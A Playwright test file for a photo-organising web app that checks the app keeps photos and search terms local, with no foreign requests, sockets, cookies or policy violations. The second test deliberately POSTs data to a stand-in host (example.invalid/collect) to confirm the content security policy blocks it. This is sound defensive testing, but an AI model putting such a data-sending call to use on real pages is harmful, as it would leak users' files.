import { basename } from 'node:path';
import { fixture, photoFiles } from './support/fixtures.ts';
import {
  addPhotos,
  closePhoto,
  openApp,
  openPhoto,
  photoView,
  search,
  shownNames,
  shownScores,
  waitForImport,
} from './support/person.ts';
import { closeSettings, openSettings } from './support/settings.ts';
import { dropOnPage } from './support/sources.ts';
import { expect, type Page, test } from './support/test.ts';

test.use({ viewport: { width: 1280, height: 1600 } });

/** Policy violations, also of kinds that no console line tells of. */
async function watchViolations(page: Page): Promise<() => Promise<readonly string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { violations: seen });
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
      seen.push(`${violatedDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

test('the whole main job asks nobody else for anything, and what is looked for stays in the fragment', async ({
  page,
  context,
  site,
  watch,
}) => {
  const asked: string[] = [];
  const bodies: string[] = [];
  context.on('request', (request) => {
    asked.push(request.url());
    if (request.method() !== 'GET' || request.postData() !== null) bodies.push(request.url());
  });
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  const violations = await watchViolations(page);

  const files = photoFiles(5);
  const names = files.map((file) => basename(file));
  const [first = ''] = names;
  await openApp(page, '#/?sort=name');
  await addPhotos(page, files);
  await waitForImport(page, files.length);

  // Filter by name, by tag and by date.
  await search(page, 'beach-1');
  await page.keyboard.press('Enter');
  await expect.poll(() => shownNames(page)).toEqual(['beach-1.jpg']);
  await expect(page).toHaveURL(/#\/\?.*q=beach-1/);
  await page.getByRole('button', { name: 'Clear all' }).click();
  await page.getByRole('list', { name: 'Tags in view' }).getByRole('button').first().click();
  await expect(page).toHaveURL(/#\/\?.*all=\w+/);
  await page.getByRole('button', { name: 'Clear all' }).click();
  await page.getByLabel('From').fill('2022-01-01');
  await expect(page).toHaveURL(/#\/\?.*from=2022-01-01/);
  await page.getByRole('button', { name: 'Clear all' }).click();

  // Open, correct, look for similar ones, of a photo that is here and of one that is not.
  await openPhoto(page, first);
  expect((await shownScores(page, 600)).length).toBeGreaterThan(600);
  await photoView(page)
    .getByRole('button', { name: /^Accept / })
    .first()
    .click();
  await photoView(page).getByRole('button', { name: 'Find similar' }).click();
  await expect(page.getByText(/Searched \d+ photos/)).toBeVisible();
  await page.getByRole('button', { name: 'Back to all photos' }).click();
  await page.getByLabel('Photo to search for').setInputFiles(fixture('near/smaller.jpg'));
  await expect(page.getByText(/Searched \d+ photos/)).toBeVisible();
  await page.getByRole('button', { name: 'Back to all photos' }).click();

  // The rest that a person does.
  await dropOnPage(page, [fixture('nested')]);
  await expect.poll(() => shownNames(page)).toHaveLength(files.length + 2);
  await page.getByRole('button', { name: '简体中文' }).click();
  await expect(page.getByRole('button', { name: '添加照片' })).toBeVisible();
  await page.getByRole('button', { name: 'English' }).click();
  await openSettings(page);
  await closeSettings(page);
  await page.reload();
  await expect.poll(() => shownNames(page)).toHaveLength(files.length + 2);
  await openPhoto(page, first);
  await closePhoto(page);
  await expect(page.getByText('Ready offline').first()).toBeVisible();

  // Nothing left the site, and the site itself was only asked for its own files, by addresses that tell nothing.
  expect(watch.foreignRequests).toEqual([]);
  expect(sockets).toEqual([]);
  expect(bodies).toEqual([]);
  expect(await violations()).toEqual([]);
  const own = asked.filter((url) => url.startsWith(site.url));
  expect(own.length).toBeGreaterThan(10);
  for (const url of own) {
    const { pathname, search: query } = new URL(url);
    expect(query, url).toMatch(/^(\?v=\w+|\?__WB_REVISION__=\w+)?$/);
    expect(decodeURIComponent(pathname), url).not.toMatch(/beach|hills|IMG_|smaller/);
  }
  expect(await page.context().cookies()).toEqual([]);
});

test('the page cannot be made to send anything to another host', async ({ page, watch }) => {
  watch.allow(/Content Security Policy|Refused to connect|Fetch API cannot load/);
  const violations = await watchViolations(page);
  await openApp(page);
  const fetched = await page.evaluate(() =>
    fetch('https://example.invalid/collect', { method: 'POST', body: 'photo' }).then(
      () => 'answered',
      () => 'refused',
    ),
  );
  expect(fetched).toBe('refused');
  await expect
    .poll(violations)
    .toContainEqual(expect.stringContaining('connect-src https://example.invalid'));
});
